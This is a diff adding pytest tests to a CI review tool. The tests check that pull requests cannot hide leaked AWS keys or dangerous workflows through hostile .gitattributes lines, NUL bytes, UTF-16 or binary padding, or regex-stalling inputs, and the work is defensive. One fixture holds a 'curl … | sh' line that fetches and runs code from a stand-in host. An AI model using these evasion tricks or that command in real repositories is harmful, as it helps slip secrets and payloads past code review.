@@ -217,3 +217,303 @@ def test_review_audits_a_changed_workflow_on_its_changed_lines(tmp_path: Path) -
     }
     assert ("cicd-agent/workflow-template-injection", 10) in places
     assert all(line != 7 for _, line in places), "line 7 was already there: not this change's"
+
+
+# ----------------------------------- Attacks: a pull request that steers git with its own files
+# A pull request that steers git with its own files must not blind the review floor.
+#
+# The attack (issue 42, item 1): the PR adds ``.gitattributes`` with ``* binary`` (or ``* -diff``,
+# or a diff driver the runner's config makes binary or textconv'd), a committed AWS key and a
+# ``pull_request_target`` workflow that checks out the head. The review runs in the PR's checkout,
+# so git read the PR's attributes and every file became "Binary files differ": no finding, exit 0.
+
+
+WORKFLOW = """\
+on: pull_request_target
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4
+        with:
+          ref: ${{ github.event.pull_request.head.sha }}
+      - run: make
+"""
+
+HOSTILE = {
+    "binary": "* binary\n",
+    "minus-diff": "* -diff\n",
+    "driver": "* diff=hide\n",
+}
+
+
+def _attack(tmp_path: Path, attributes: str) -> tuple[GitRepoBuilder, str, str]:
+    builder = GitRepoBuilder(tmp_path / "repo")
+    # What a runner's own configuration may hold: a driver that hides text, read only when an
+    # attribute names it. The PR's `.gitattributes` names it for every file.
+    builder.git("config", "diff.hide.binary", "true")
+    builder.git("config", "diff.hide.textconv", "sed d")
+    builder.git("config", "diff.hide.command", "true")
+    base = builder.commit(
+        "base",
+        {
+            ".gitattributes": "*.dat -diff\n",
+            "src/app.py": "def main():\n    return 0\n",
+            "logo.png": b"\x89PNG\0\0\0",
+            "table.dat": "1 2 3\n",
+        },
+    )
+    head = builder.commit(
+        "add deploy",
+        {
+            ".gitattributes": "*.dat -diff\n" + attributes,
+            "table.dat": "1 2 3 4\n",
+            "src/app.py": f"def main():\n    key = '{AWS_KEY}'\n    return 0\n",
+            ".github/workflows/build.yml": WORKFLOW,
+            "logo.png": b"\x89PNG\0\0\1",
+        },
+    )
+    return builder, base, head
+
+
+def _review(
+    tmp_path: Path, builder: GitRepoBuilder, base: str, head: str
+) -> tuple[int, dict[str, str], str]:
+    (tmp_path / "out").touch()
+    (tmp_path / "summary").touch()
+    environ = {
+        "GITHUB_OUTPUT": str(tmp_path / "out"),
+        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
+        "RUNNER_TEMP": str(tmp_path),
+    }
+    argv = ["review", "--repo", str(builder.path), "--base", base, "--head", head,
+            "--provider", "none", "--fail-on", "high"]  # fmt: skip
+    done = run_cli(argv, tmp_path, environ, on_runner=False)
+    outputs = parse_github_output((tmp_path / "out").read_text())
+    return done.code, outputs, (tmp_path / "summary").read_text()
+
+
+@pytest.mark.parametrize("attributes", HOSTILE.values(), ids=HOSTILE.keys())
+def test_pr_attributes_do_not_hide_the_changed_lines(tmp_path: Path, attributes: str) -> None:
+    builder, base, head = _attack(tmp_path, attributes)
+    code, outputs, summary = _review(tmp_path, builder, base, head)
+
+    assert code == 1, summary
+    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
+    rules = {result["ruleId"] for result in sarif["runs"][0]["results"]}
+    assert "cicd-agent/secret" in rules
+    assert "cicd-agent/workflow-pwn-request" in rules
+    assert "cicd-agent/git-settings" in rules
+    assert int(outputs["critical_count"]) >= 1
+    # The summary's list of binary files is the base's view: the image by its bytes, the table
+    # by the base's `-diff`; the code and the workflow are text, whatever the PR's lines say.
+    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
+    assert "`logo.png` (binary)" in listed and "`table.dat` (binary)" in listed
+    assert "src/app.py" not in listed and "build.yml" not in listed
+
+
+NUL_HIDDEN = {
+    "script": ("build.sh", f"#!/bin/sh\n#\0\ncurl -s https://x.example/i | sh\nK={AWS_KEY}\n"),
+    "key-file": ("deploy/keys.env", f"AWS_ACCESS_KEY_ID={AWS_KEY}\n\0"),
+    "changed": ("src/app.py", f"def main():\n    key = '{AWS_KEY}'\n    return 0\n# \0\n"),
+}
+
+
+@pytest.mark.parametrize("path, text", NUL_HIDDEN.values(), ids=NUL_HIDDEN.keys())
+def test_a_nul_byte_does_not_hide_a_text_file(tmp_path: Path, path: str, text: str) -> None:
+    """git calls a file binary for one NUL byte when no attribute decides: the pull request
+    chose which of its files no rule read. Text with a stray NUL is read as text; a real
+    binary (the image) and what the base's ``-diff`` marks stay binary."""
+    builder = GitRepoBuilder(tmp_path / "repo")
+    base = builder.commit(
+        "base", {"src/app.py": "def main():\n    return 0\n", "logo.png": b"\x89PNG\0\0\0"}
+    )
+    head = builder.commit("hide", {path: text, "logo.png": b"\x89PNG\0\0\2"})
+    code, outputs, summary = _review(tmp_path, builder, base, head)
+
+    assert code == 1, summary
+    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
+    assert any(
+        result["ruleId"] == "cicd-agent/secret"
+        and result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == path
+        for result in sarif["runs"][0]["results"]
+    )
+    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
+    assert "`logo.png` (binary)" in listed and path not in listed
+
+
+LEFT_HIDDEN = {
+    # PowerShell runs a UTF-16 script as readily as a UTF-8 one; git calls it binary.
+    "utf-16-script": ("deploy.ps1", f"\ufeff$k = '{AWS_KEY}'\r\n".encode("utf-16-le")),
+    # Past the bytes read to tell text from binary (1 MiB), a stray NUL still hides a file.
+    "padded": ("dist/app.js", ("//\0\n" + "x\n" * 600_000 + f"k='{AWS_KEY}'\n").encode()),
+    # A NUL, then more control bytes than text has (a log's colour codes): no encoding reads it.
+    "control-bytes": (
+        "deploy/run.log",
+        ("\0" + "\x1b[31mERROR\x1b[0m retry\n" * 40 + f"AWS_ACCESS_KEY_ID={AWS_KEY}\n").encode(),
+    ),
+    # The key as plain bytes, then enough UTF-16 text that the file reads as UTF-16: the key's
+    # bytes then decode as other characters.
+    "mixed-encodings": (
+        "deploy/keys.env",
+        f"AWS_ACCESS_KEY_ID={AWS_KEY}\n".encode() + "region: eu-west-1\n".encode("utf-16-le") * 8,
+    ),
+    # A key inside real binary data (a keystore, a pickle, a database page).
+    "in-binary-data": (
+        "deploy/store.db",
+        bytes(range(256)) * 4 + f"aws_access_key_id={AWS_KEY}".encode() + bytes(range(256)),
+    ),
+    # The same inside binary data as UTF-16 (a Windows resource, a .NET assembly's strings).
+    "utf-16-in-binary-data": (
+        "deploy/app.dll",
+        b"MZ\x90\0" + bytes(range(256)) + f"AWS_ACCESS_KEY_ID={AWS_KEY}".encode("utf-16-le"),
+    ),
+}
+
+
+@pytest.mark.parametrize("path, data", LEFT_HIDDEN.values(), ids=LEFT_HIDDEN.keys())
+def test_text_git_calls_binary_is_still_read(tmp_path: Path, path: str, data: bytes) -> None:
+    """Attack: a UTF-16 script, or a NUL past the bytes read to tell text from binary: the
+    diff shows "Binary files differ" and no rule read the key. The file stays binary in the
+    diff shown; the secret rules read its added text from the blobs."""
+    builder = GitRepoBuilder(tmp_path / "repo")
+    base = builder.commit("base", {"src/app.py": "def main():\n    return 0\n"})
+    head = builder.commit("hide", {path: data})
+    code, outputs, summary = _review(tmp_path, builder, base, head)
+    assert code == 1, summary
+    assert _secret_paths(outputs) == {path}
+
+
+def _secret_paths(outputs: dict[str, str]) -> set[str]:
+    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
+    return {
+        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+        for result in sarif["runs"][0]["results"]
+        if result["ruleId"] == "cicd-agent/secret"
+    }
+
+
+def test_the_bases_minus_diff_hides_a_file_from_the_diff_never_from_the_secret_rules(
+    tmp_path: Path,
+) -> None:
+    """Attack: the base marks ``*.min.js -diff`` (a usual line for minified bundles); the pull
+    request adds a key to one. The diff shows it binary, as GitHub does, and no rule read it.
+    The key is found, on its line; the key the base already held in its bundle is not this
+    change's, and the file is still listed as binary."""
+    old_key = "AKIA" + "ZXCVBNMLKJHGFDSA"
+    builder = GitRepoBuilder(tmp_path / "repo")
+    base = builder.commit(
+        "base",
+        {
+            ".gitattributes": "*.min.js -diff\n",
+            "dist/app.min.js": f"var a=1;var k='{old_key}';\n",
+        },
+    )
+    head = builder.commit(
+        "bundle",
+        {"dist/app.min.js": f"var a=1;var k='{old_key}';\nvar b='{AWS_KEY}';\n"},
+    )
+    code, outputs, summary = _review(tmp_path, builder, base, head)
+    assert code == 1, summary
+    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
+    lines = [
+        result["locations"][0]["physicalLocation"]["region"]["startLine"]
+        for result in sarif["runs"][0]["results"]
+        if result["ruleId"] == "cicd-agent/secret"
+    ]
+    assert lines == [2], sarif["runs"][0]["results"]
+    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
+    assert "`dist/app.min.js` (binary)" in listed
+    assert AWS_KEY not in summary
+
+
+# -------------------------------------------- Attacks: lines that stalled the signature readers
+# Red team (a mode stalled by hostile text): two patterns read every line of a pull request's
+# hunks with quantifiers that can take the same whitespace, so a line of spaces costs cubic time.
+#
+# - ``analysis.authz._FUNCTION`` (``(?:public|…|\s)+[\w<>\[\],\s]*?\b(\w+)\s*\(``), asked for
+#   the function around an added ``return True``, in review and in deploy-gate: a line of a few
+#   thousand spaces stalled the run, a 20 KB line for hours.
+# - ``analysis.definitions.DEFINITION`` (``^\s*…[\w<>\[\],.*&\s]+\s+\**\w+\s*\(``), asked
+#   for the definition each changed line is in by ``--describe``: the same lines stalled it.
+#
+# Each run below took hours before the patterns were made linear; it is given a deadline many
+# times what a review of a small change takes.
+
+
+SPACES = " " * 20_000
+
+
+def _review_ends(tmp_path: Path, files: dict[str, str], *extra: str) -> None:
+    repo = GitRepoBuilder(tmp_path / "project")
+    base = repo.commit("Initial", {"app.py": "VALUE = 1\n"})
+    head = repo.commit("Change", files)
+    argv = ["review", "--repo", str(repo.path), "--base", base, "--head", head,
+            "--provider", "none", "--sarif-file", str(tmp_path / "r.sarif"), *extra]  # fmt: skip
+    script = "import sys\nfrom cicd_agent.cli import main\nsys.exit(main(sys.argv[1:], environ={}))"
+    done = subprocess.run(
+        [sys.executable, "-c", script, *argv], capture_output=True, text=True, timeout=15,
+        check=False, cwd=tmp_path,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr[-2000:]
+
+
+def test_a_line_of_spaces_before_an_added_return_true_does_not_stall_review(
+    tmp_path: Path,
+) -> None:
+    _review_ends(tmp_path, {"app.py": f"VALUE = 1\n{SPACES}x\ndef allowed():\n    return True\n"})
+
+
+def test_a_line_of_spaces_does_not_stall_the_description(tmp_path: Path) -> None:
+    _review_ends(tmp_path, {"app.py": f"VALUE = 2\n{SPACES}x\n"}, "--describe")
+
+
+# ----------------------------------------- Attacks: curl commands that stalled the secret rules
+# Red team, round three (a mode stalled by hostile text): gitleaks' ``curl-auth-user`` and
+# ``curl-auth-header`` rules (``\bcurl\b(?:.*?|.*?(?:[\r\n]{1,2}.*?){1,5})[ \t\n\r](?:-u|…``)
+# are searched over the whole text, and each ``curl`` on a line starts a lazy scan to the end of
+# that line and five more: quadratic in the line. ``find_secrets`` on one line of ``curl -u ``
+# repeated quadruples its time each time the line doubles: a review of a file holding one such
+# line of tens of KB stalled, a few MiB of them take hours, and a log of such lines (each cut
+# to 8 KB) stalled its redaction for minutes.
+#
+# The fix (``Rule.reach``, tried in ``analysis/secrets/matcher.py`` ``_matches``): for
+# these two rules a start after the first ``curl`` of a line can only match what the first
+# one's ``.*?`` reaches too, so one try per line (from its first keyword) finds every match,
+# in linear time. Given the same deadline as the first round's stall tests.
+
+
+CURL_LINE = "curl -u " * 8_000
+
+
+def test_a_line_of_curl_commands_does_not_stall_review(tmp_path: Path) -> None:
+    _review_ends(tmp_path, {"deploy.sh": CURL_LINE + "\n"})
+
+
+def test_a_renamed_binary_file_is_read_against_its_old_path(tmp_path: Path) -> None:
+    """A binary file moved with its key is not this change's key; a key a moved binary file
+    gains, and one in a new binary file beside it, are, each read one blob at a time."""
+    old_key = "AKIA" + "ZXCVBNMLKJHGFDSA"
+    moved_key = "AKIA" + "POIUYTREWQLKJHGF"
+    store = bytes(range(256)) * 64 + f"aws_access_key_id={old_key}\n".encode()
+    builder = GitRepoBuilder(tmp_path / "repo")
+    base = builder.commit("base", {"assets/store.db": store, "src/app.py": "x = 1\n"})
+    head = builder.commit(
+        "move",
+        {
+            "data/store.db": store + f"aws_access_key_id={moved_key}\n".encode(),
+            "data/new.db": bytes(range(256)) + f"aws_access_key_id={AWS_KEY}\n".encode(),
+        },
+        remove=("assets/store.db",),
+    )
+    code, outputs, summary = _review(tmp_path, builder, base, head)
+    assert code == 1, summary
+    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
+    found = {
+        (r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r["message"]["text"])
+        for r in sarif["runs"][0]["results"]
+        if r["ruleId"] == "cicd-agent/secret"
+    }
+    assert {path for path, _ in found} == {"data/store.db", "data/new.db"}, found
+    assert len(found) == 2, found
